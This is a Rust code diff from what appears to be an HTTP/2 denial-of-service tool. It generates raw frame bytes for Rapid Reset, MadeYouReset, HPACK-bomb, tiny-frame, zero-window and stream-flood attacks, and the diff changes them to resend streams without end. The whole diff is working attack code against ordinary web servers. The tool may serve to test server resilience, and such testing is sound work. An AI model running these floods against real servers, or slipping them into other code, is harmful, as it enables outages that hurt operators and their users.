@@ -1,26 +1,25 @@
 //! The bytes of each attack over HTTP/2 (RFC 9113), cleartext and with prior knowledge.
 //!
-//! Identifiers of streams only grow (§5.1.1). An attack that opens streams sends a long run of
-//! them, made beforehand, closes, and begins anew on another connection; what has no identifier of
-//! its own goes on without end.
+//! What is sent without end waits for the server by TCP's flow control: the attacker is as fast as
+//! what it attacks, and open until it is cut.
 
 use super::{PIECE_BYTES, Wire, repeat};
-use crate::attack::script::{Script, Step};
+use crate::attack::script::{Script, Step, Streams};
 use crate::h2::fields::{self, index};
 use crate::h2::{
     PAYLOAD_BYTES_MAX, PREFACE, WINDOW_INITIAL, WINDOW_MAX, code, data, flag, frame, headers, kind,
     ping, priority, rst_stream, setting, settings, window_update,
 };
 
-/// Streams in a run: connecting is nothing beside so many.
-const RUN_STREAMS: u32 = 50_000;
+/// Streams that are sent in one piece where each brings little.
+const RUN_STREAMS: u32 = 1000;
+/// The same where each brings a frame or more of fields.
+const GIANT_STREAMS: u32 = 4;
 /// Streams that a connection holds open: what servers should allow at least (§6.5.2).
 const HELD_STREAMS: u32 = 100;
-/// DATA frames of one byte in a run: as many as every server must take before it has read any, and
-/// the rest of the window to spare.
+/// DATA frames of one byte on a connection: most of the window that every server opens with. A
+/// server that reads what comes may open more, but no attacker should rely on it.
 const TINY_FRAMES: u32 = WINDOW_INITIAL - 5535;
-/// Requests with a giant field list in a run; each takes a frame or four.
-const GIANT_STREAMS: u32 = 100;
 /// Fields in a list that stays below what servers usually allow.
 const MODEST_FIELDS: usize = 64;
 /// A value that fills the dynamic table (4096 bytes, of which an entry takes 32 for itself).
@@ -56,19 +55,36 @@ fn opening(more: &[(u16, u32)]) -> Vec<u8> {
 
 /// What each of so many streams sends, one after the other.
 fn run(streams: u32, send: impl FnMut(u32) -> Vec<u8>) -> Vec<u8> {
-    identifiers(streams).flat_map(send).collect()
+    run_from(1, streams, send)
 }
 
-fn identifiers(streams: u32) -> impl Iterator<Item = u32> {
-    (0..streams).map(|number| 2 * number + 1)
+fn run_from(first: u32, streams: u32, mut send: impl FnMut(u32) -> Vec<u8>) -> Vec<u8> {
+    let mut bytes = Vec::new();
+    for number in 0..streams {
+        bytes.extend(send(first + 2 * number));
+    }
+    bytes
 }
 
-/// Sends this once, as fast as possible.
-fn once(variant: &'static str, begin: Vec<u8>, then: Vec<u8>) -> Script {
+/// Streams without end, as fast as possible.
+fn streams(variant: &'static str, send: impl FnMut(u32) -> Vec<u8>) -> Script {
+    let run = Streams::new(run(RUN_STREAMS, send), RUN_STREAMS);
     Script::http2(
         variant,
-        vec![Step::Send(begin), Step::Send(then), Step::Close],
+        vec![Step::Send(opening(&[])), Step::SendStreamsForever(run)],
     )
+}
+
+/// Sends this once, as fast as possible, and waits until the server has read it to the end.
+fn once(variant: &'static str, begin: Vec<u8>, then: Vec<u8>) -> Script {
+    let steps = vec![
+        Step::Send(begin),
+        Step::Send(then),
+        Step::Finish,
+        Step::Stay,
+    ];
+    // Nothing may follow the end.
+    Script::http2(variant, steps).unacknowledged()
 }
 
 /// Sends this again and again, as fast as possible.
@@ -92,35 +108,29 @@ fn slow(variant: &'static str, begin: Vec<u8>, each_period: Vec<u8>) -> Script {
 
 pub(super) fn rapid_reset(wire: &Wire<'_>) -> Vec<Script> {
     let cancel = |id| rst_stream(id, code::CANCEL);
-    let whole = run(RUN_STREAMS, |id| [wire.get_stream(id), cancel(id)].concat());
-    let unfinished = run(RUN_STREAMS, |id| {
-        [wire.post_stream(id), cancel(id)].concat()
-    });
-    // The requests of a batch are under way before the first is reset.
-    let ids: Vec<u32> = identifiers(RUN_STREAMS).collect();
-    let batches = ids.chunks(HELD_STREAMS as usize).flat_map(|batch| {
-        let requests = batch.iter().flat_map(|id| wire.get_stream(*id));
-        requests.chain(batch.iter().flat_map(|id| cancel(*id)))
-    });
+    let whole = |id| [wire.get_stream(id), cancel(id)].concat();
+    let unfinished = |id| [wire.post_stream(id), cancel(id)].concat();
+    // All requests of a batch are under way before the first is reset.
+    let requests = run(HELD_STREAMS, |id| wire.get_stream(id));
+    let batch = [requests, run(HELD_STREAMS, cancel)].concat();
+    let batches = Step::SendStreamsForever(Streams::new(batch, HELD_STREAMS));
     vec![
-        once("whole", opening(&[]), whole.clone()),
-        once("unfinished", opening(&[]), unfinished),
-        once("batches", opening(&[]), batches.collect()),
-        once("unread", opening(&[]), whole).unread(),
+        streams("whole", whole),
+        streams("unfinished", unfinished),
+        Script::http2("batches", vec![Step::Send(opening(&[])), batches]),
+        streams("unread", whole).unread(),
     ]
 }
 
 /// Each second frame is a stream error (§5.4.2), or the first one is.
 pub(super) fn made_you_reset(wire: &Wire<'_>) -> Vec<Script> {
     let provoked = |variant, frame: fn(&Wire<'_>, u32) -> Vec<u8>| {
-        let streams = run(RUN_STREAMS, |id| {
+        streams(variant, |id| {
             [wire.get_stream(id), frame(wire, id)].concat()
-        });
-        once(variant, opening(&[]), streams)
+        })
     };
     let mut malformed = wire.get_block();
     fields::put_known(&mut malformed, index::CONTENT_LENGTH, b"5");
-    let malformed = run(RUN_STREAMS, |id| headers(flag::END_STREAM, id, &malformed));
     vec![
         provoked("window-zero", |_, id| window_update(id, 0)),
         provoked("window-overflow", |_, id| window_update(id, WINDOW_MAX)),
@@ -130,7 +140,7 @@ pub(super) fn made_you_reset(wire: &Wire<'_>) -> Vec<Script> {
             frame(kind::PRIORITY, 0, id, &[0; 4])
         }),
         provoked("priority-itself", |_, id| priority(id, id)),
-        once("malformed", opening(&[]), malformed),
+        streams("malformed", |id| headers(flag::END_STREAM, id, &malformed)),
     ]
 }
 
@@ -261,16 +271,20 @@ pub(super) fn tiny_data(wire: &Wire<'_>) -> Vec<Script> {
     ]
 }
 
-/// Each request has a block of a frame or more.
+/// Each request has a block of a frame or more; the first one fills the table, if it is used.
 pub(super) fn hpack_bomb(wire: &Wire<'_>) -> Vec<Script> {
     let bomb = |variant, first: &[u8], more: &[u8]| {
-        let first = [&*wire.get_block(), first].concat();
-        let more = [&*wire.get_block(), more].concat();
-        let streams = run(GIANT_STREAMS, |id| {
-            let block = if id == 1 { &first } else { &more };
-            headers(flag::END_STREAM, id, block)
-        });
-        once(variant, opening(&[]), streams)
+        let request = |id, block: &[u8]| {
+            let block = [&*wire.get_block(), block].concat();
+            headers(flag::END_STREAM, id, &block)
+        };
+        let begin = [opening(&[]), request(1, first)].concat();
+        let run = run_from(3, GIANT_STREAMS, |id| request(id, more));
+        let run = Streams::new(run, GIANT_STREAMS);
+        Script::http2(
+            variant,
+            vec![Step::Send(begin), Step::SendStreamsForever(run)],
+        )
     };
     let value = [b'x'; TABLE_VALUE_BYTES];
     let references = [fields::indexed(index::NEWEST); BLOCK_BYTES];
@@ -334,12 +348,10 @@ pub(super) fn zero_window(wire: &Wire<'_>) -> Vec<Script> {
 }
 
 pub(super) fn stream_flood(wire: &Wire<'_>) -> Vec<Script> {
-    let whole = run(RUN_STREAMS, |id| wire.get_stream(id));
-    let unfinished = run(RUN_STREAMS, |id| wire.post_stream(id));
     vec![
-        once("unfinished", opening(&[]), unfinished),
-        once("whole", opening(&[]), whole.clone()),
-        once("unread", opening(&[]), whole).unread(),
+        streams("unfinished", |id| wire.post_stream(id)),
+        streams("whole", |id| wire.get_stream(id)),
+        streams("unread", |id| wire.get_stream(id)).unread(),
     ]
 }
 
